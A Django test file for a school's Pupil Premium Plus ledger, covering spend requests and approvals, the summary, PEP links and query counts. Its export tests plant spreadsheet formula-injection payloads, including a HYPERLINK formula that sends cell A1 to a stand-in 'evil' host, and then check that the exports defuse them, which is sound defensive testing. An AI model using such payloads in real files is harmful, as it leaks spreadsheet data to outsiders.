"""The PP+ pages as a browser posts them: the ledger, asking for and approving spend, the
summary and the export (formula injection defused)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from core.models import AuditEvent
from pupil_premium.models import PpItem
from tests.matrix import on_matrix_day
from tests.pupil_premium.conftest import D
from tests.pupil_premium.factories import AllocationFactory, ItemFactory

pytestmark = pytest.mark.django_db


def test_the_ledger_shows_the_balance_who_holds_the_money_and_each_item(dt_client, adopted):
    AllocationFactory(pupil=adopted, amount=Decimal("2630.00"))
    ItemFactory(pupil=adopted, description="Drama club fees")
    with on_matrix_day():
        response = dt_client.get(reverse("pupil_premium:ledger", args=[adopted.pk]))
    html = response.content.decode()
    assert "school receives their PP+ through the census" in html
    assert "Drama club fees" in html and "£2,630.00" in html
    assert (
        AuditEvent.objects.filter(pupil_id=adopted.pk, action="pupil.pp_ledger_viewed").count() == 1
    )


def test_a_request_and_its_approval_over_the_allocation_needs_a_reason(dt_client, adopted):
    AllocationFactory(pupil=adopted, amount=Decimal("100.00"))
    with on_matrix_day():
        response = dt_client.post(
            reverse("pupil_premium:item_add", args=[adopted.pk]),
            {
                "date": "5/10/2026",
                "description": "Laptop",
                "category": "equipment",
                "amount": "120.50",
                "supplier": '=HYPERLINK("http://evil")',
            },
        )
        assert response.status_code == 302
        item = PpItem.objects.get()
        url = reverse("pupil_premium:item_approve", args=[item.pk])
        refused = dt_client.post(url, {})
        assert refused.status_code == 200
        assert "so £100.00 remains and this is £120.50" in refused.content.decode()
        assert (
            dt_client.post(
                url, {"over_allocation_reason": "Needs it for GCSE coursework"}
            ).status_code
            == 302
        )
    item.refresh_from_db()
    assert item.status == "approved" and item.over_allocation_reason


def test_the_export_escapes_cells_that_would_run_as_formulas(dt_client, adopted):
    ItemFactory(
        pupil=adopted, supplier='=HYPERLINK("http://evil/?"&A1,"Click")', description="+cmd"
    )
    with on_matrix_day():
        as_csv = dt_client.get(reverse("pupil_premium:export") + "?year=2026&format=csv")
        as_xlsx = dt_client.get(reverse("pupil_premium:export") + "?year=2026&format=xlsx")
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode())))
    assert rows[0]["Supplier"].startswith("'=HYPERLINK")
    assert rows[0]["What it pays for"] == "'+cmd"
    assert rows[0]["Amount (£)"] == "450.00"
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    event = AuditEvent.objects.filter(action="pp.exported").last()
    assert event.changes["pupils"] == 1


def test_the_summary_shows_each_child_and_a_chart(head_client, adopted):
    AllocationFactory(pupil=adopted)
    ItemFactory(pupil=adopted)
    with on_matrix_day():
        response = head_client.get(reverse("pupil_premium:summary") + "?year=2026")
    html = response.content.decode()
    assert adopted.display_name in html and "data:image/svg+xml" in html


def test_each_pep_target_shows_its_pp_plus_status_and_links_to_the_ledger(
    dt_client, child, autumn, teacher
):
    from peps import services as pep_services
    from tests.pupil_premium.conftest import D, fill

    pep = fill(
        pep_services.pep_start(pupil=child, term=autumn, by=teacher, today=D(2026, 10, 12)),
        teacher,
    )
    pep_services.pep_complete(pep=pep, by=teacher, today=D(2026, 10, 20))
    with on_matrix_day():
        html = dt_client.get(reverse("peps:pep", args=[pep.pk])).content.decode()
    item = PpItem.objects.get()
    assert "£450.00 requested" in html
    assert reverse("pupil_premium:ledger", args=[child.pk]) + f"?year=2026#item-{item.pk}" in html


def test_the_dt_changes_a_request_from_the_ledger(dt_client, adopted):
    item = ItemFactory(pupil=adopted, description="Tutoring")
    url = reverse("pupil_premium:item_edit", args=[item.pk])
    with on_matrix_day():
        ledger = dt_client.get(reverse("pupil_premium:ledger", args=[adopted.pk]))
        assert url in ledger.content.decode()
        response = dt_client.post(
            url,
            {
                "description": "Tutoring, two sessions a week",
                "category": "mentoring",
                "amount": "500",
                "supplier": "Fenbridge Tutoring",
            },
        )
    assert response.status_code == 302
    item.refresh_from_db()
    assert (item.category, item.amount) == ("mentoring", Decimal("500.00"))


def test_a_decided_item_s_change_page_goes_back_to_the_ledger(dt_client, adopted):
    item = ItemFactory(pupil=adopted, status="declined", decline_reason="No")
    with on_matrix_day():
        response = dt_client.post(
            reverse("pupil_premium:item_edit", args=[item.pk]),
            {"description": "X", "category": "other", "amount": "1"},
        )
    assert response.status_code == 302
    item.refresh_from_db()
    assert item.amount == Decimal("450.00")


# --- Query counts ------------------------------------------------------------------------------


def _adopted(school, n):
    from tests.pupil_factories import CareEpisodeFactory, PupilFactory

    pupils = []
    for i in range(n):
        pupil = PupilFactory(school=school, legal_forename=f"Child{i}")
        CareEpisodeFactory(
            pupil=pupil, kind="previously_in_care", start_date=D(2021, 3, 1), legal_basis="sgo"
        )
        AllocationFactory(pupil=pupil)
        ItemFactory(pupil=pupil)
        pupils.append(pupil)
    return pupils


def _spent(pupil, by, n):
    for _ in range(n):
        ItemFactory(
            pupil=pupil,
            status="spent",
            decided_by=by,
            decided_on=D(2026, 10, 6),
            spent_on=D(2026, 10, 7),
            spent_by=by,
            outcome="partly",
            impact_note="Reads more",
        )


def test_the_summary_s_query_count_does_not_grow_with_children_or_items(
    school, head_client, django_assert_max_num_queries
):
    from accounts.models import User

    by = User.objects.first()
    _spent(_adopted(school, 2)[0], by, 2)
    url = reverse("pupil_premium:summary") + "?year=2026"
    for pupils in (0, 40):
        for pupil in _adopted(school, pupils):
            _spent(pupil, by, 2)
        # Session, user, two-factor device and membership (4), then the summary's six:
        # allocations, each child's sums, the children, by category, by outcome, every item
        # with who decided and paid it; the read event and the session's save in its savepoint
        # (4). Nothing per child or item.
        with on_matrix_day(), django_assert_max_num_queries(14):
            assert head_client.get(url).status_code == 200


def test_the_ledger_s_query_count_does_not_grow_with_its_items(
    school, dt_client, adopted, django_assert_max_num_queries
):
    from accounts.models import User

    AllocationFactory(pupil=adopted)
    url = reverse("pupil_premium:ledger", args=[adopted.pk]) + "?year=2026"
    for items in (1, 30):
        _spent(adopted, User.objects.first(), items)
        # Session, user, two-factor device and membership (4), the child and its read event
        # (content type, insert: 3), the items with their target, PEP, term, decider and payer
        # (1), the years (2), the child's care episodes for its group (1), the allocation (1),
        # the balance (2), the session's save in its savepoint (3). Nothing per item.
        with on_matrix_day(), django_assert_max_num_queries(17):
            assert dt_client.get(url).status_code == 200
